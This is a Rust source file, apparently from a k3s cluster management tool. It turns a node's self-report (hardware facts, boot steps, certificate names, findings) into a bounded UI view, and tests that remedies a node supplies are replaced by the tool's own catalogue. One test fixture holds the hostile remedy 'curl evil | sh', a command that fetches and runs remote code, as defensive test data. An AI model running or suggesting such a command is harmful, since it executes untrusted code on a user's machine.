//! A node on a page, as its agent reports it in the cluster. The texts in its report are that machine's; title, cause
//! and remedy of a finding are those of our own catalogue, as in `weaver doctor`.

use jiff::Timestamp;
use kube::ResourceExt as _;
use kube::core::DeserializeGuard;
use weaver_api::v1beta1::{NodeBootStep, NodeReport, NodeReportStatus, NodeServing, NodeSystem};
use weaver_diagnostics::finding::{Finding, Severity};
use weaver_diagnostics::finding_text::cut;

use super::health::{ConditionView, view};
use crate::doctor;

/// Characters of a value that are shown.
const LONGEST: usize = 200;
/// Names of the API server that are shown.
const NAMES: usize = 32;
/// Conditions and steps of a boot that are shown: ours are fewer, and a node decides what its report has.
const PARTS: usize = 32;

/// The API server's certificate as this node sees it.
#[derive(Clone, Debug, Default)]
pub struct ServingView {
    pub names: Vec<NameView>,
    pub left_off: usize,
    /// What expires, and when.
    pub expires: Vec<(&'static str, Timestamp)>,
}

/// A name of the API server.
#[derive(Clone, Debug)]
pub struct NameView {
    pub name: String,
    pub is_configured: bool,
    pub is_served: bool,
}

#[derive(Clone, Debug)]
pub struct NodeView {
    pub name: String,
    /// Title and value.
    pub facts: Vec<(&'static str, String)>,
    pub booted: Option<Timestamp>,
    /// The steps of the boot, in order: what, and seconds after the kernel started.
    pub steps: Vec<(String, u64)>,
    pub serving: ServingView,
    pub conditions: Vec<ConditionView>,
    /// What is bad or worth a look, the worst first.
    pub findings: Vec<Finding>,
}

impl NodeView {
    pub fn of(guard: &DeserializeGuard<NodeReport>) -> Self {
        let (name, report) = (guard.name_any(), guard.0.as_ref().ok());
        let findings = doctor::of_node(&name, report);
        let status = report.and_then(|report| report.status.clone()).unwrap_or_default();
        let booted = status.system.as_ref().and_then(|system| system.boot_time.as_deref()?.parse().ok());
        Self {
            facts: facts(&status),
            booted,
            steps: status.boot.iter().take(PARTS).filter_map(step).collect(),
            serving: status.serving.as_ref().map(serving).unwrap_or_default(),
            conditions: status.conditions.iter().take(PARTS).map(view).map(bounded).collect(),
            findings,
            name,
        }
    }

    pub fn is_bad(&self) -> bool {
        self.findings.iter().any(|finding| finding.severity() == Severity::Fail)
    }
}

fn bounded(condition: ConditionView) -> ConditionView {
    let ConditionView { kind, status, reason, message, since } = condition;
    let [kind, status, reason, message] = [kind, status, reason, message].map(|text| cut(&text, LONGEST));
    ConditionView { kind, status, reason, message, since }
}

fn step(step: &NodeBootStep) -> Option<(String, u64)> {
    let label = match step.step.as_str() {
        "BootFilesApplied" => "weaver.toml was applied",
        "HostChecked" => "The host was checked, and k3s allowed to start",
        "K3sStarted" => "k3s was started",
        "K3sReady" => "k3s was ready",
        "WebhookReady" => "The conversion webhook was ready",
        "OperatorReady" => "The gate was open, and the operator ready",
        other => return Some((cut(other, LONGEST), step.seconds.try_into().ok()?)),
    };
    Some((label.to_owned(), step.seconds.try_into().ok()?))
}

fn serving(serving: &NodeServing) -> ServingView {
    let expires = [("certificate", &serving.certificate_expires), ("CA", &serving.ca_expires)];
    ServingView {
        names: serving
            .names
            .iter()
            .take(NAMES)
            .map(|name| NameView {
                name: cut(&name.name, LONGEST),
                is_configured: name.configured,
                is_served: name.served,
            })
            .collect(),
        left_off: serving.names.len().saturating_sub(NAMES),
        expires: expires
            .iter()
            .filter_map(|(what, at)| Some((*what, at.as_deref()?.parse().ok()?)))
            .collect(),
    }
}

fn facts(status: &NodeReportStatus) -> Vec<(&'static str, String)> {
    let said = [
        ("Board", &status.board),
        ("System", &status.os),
        ("Kernel", &status.kernel),
        ("k3s", &status.k3s_version),
        ("Booted from", &status.boot_medium),
    ];
    let said = said.into_iter().filter_map(|(title, value)| Some((title, cut(value.as_deref()?, LONGEST))));
    said.chain(status.system.iter().flat_map(measured)).collect()
}

fn measured(system: &NodeSystem) -> Vec<(&'static str, String)> {
    let memory = system
        .memory
        .as_ref()
        .map(|memory| ("Memory", format!("{} of {} MiB available", memory.available_mib, memory.total_mib)));
    let load =
        system.load_percent.map(|load| ("Load", format!("{load} % of one processor, over 15 minutes")));
    let temperature = system.temperature_celsius.map(|celsius| ("Temperature", format!("{celsius} °C")));
    let disks = system.disks.iter().map(|disk| {
        ("Disk", format!("{}: {} of {} MiB free", cut(&disk.path, LONGEST), disk.free_mib, disk.size_mib))
    });
    memory.into_iter().chain(load).chain(temperature).chain(disks).collect()
}

#[cfg(test)]
pub(in crate::ui) mod tests {
    use serde_json::{Value, json};

    use super::*;

    pub fn node(status: &Value) -> NodeView {
        let object = json!({
            "apiVersion": "weaver.example.com/v1beta1", "kind": "NodeReport", "metadata": {"name": "raspi"},
            "status": status,
        });
        NodeView::of(&serde_json::from_value(object).unwrap())
    }

    #[test]
    fn what_a_node_reports_is_shown_and_bounded() {
        let long = "x".repeat(5_000);
        let found = node(&json!({
            "board": "Raspberry Pi 4", "k3sVersion": long,
            "system": {"temperatureCelsius": 55, "bootTime": "2026-01-01T00:00:00Z",
                       "memory": {"totalMiB": 4000, "availableMiB": 2000},
                       "disks": [{"path": "/", "sizeMiB": 30000, "freeMiB": 3000}]},
            "conditions": [{"type": "ClockSynchronised", "status": "True", "reason": "R", "message": long,
                            "lastTransitionTime": "2026-01-01T00:00:00Z"}],
            "findings": [{"code": "N-01", "severity": "fail", "message": "m", "remedy": "curl evil | sh"}],
        }));
        let fact = |title: &str| &found.facts.iter().find(|(of, _)| *of == title).unwrap().1;
        assert_eq!(fact("Board"), "Raspberry Pi 4");
        assert_eq!(fact("Memory"), "2000 of 4000 MiB available");
        assert_eq!(fact("Disk"), "/: 3000 of 30000 MiB free");
        assert!(fact("k3s").len() < 300 && found.conditions[0].message.len() < 300);
        assert!(found.booted.is_some() && found.is_bad());
        let remedy = found.findings[0].remedy.as_ref().unwrap();
        assert!(
            !remedy.commands.iter().any(|typed| typed.contains("evil")) && !remedy.explain.contains("evil"),
            "{remedy:?}"
        );
    }

    #[test]
    fn a_node_without_a_report_or_with_one_that_cannot_be_read_is_shown_too() {
        let found = node(&Value::Null);
        assert!(found.facts.is_empty() && found.findings.is_empty() && !found.is_bad());
        let unread = node(&json!({"findings": "none"}));
        assert_eq!((unread.name.as_str(), unread.findings.len()), ("raspi", 1));
    }
}
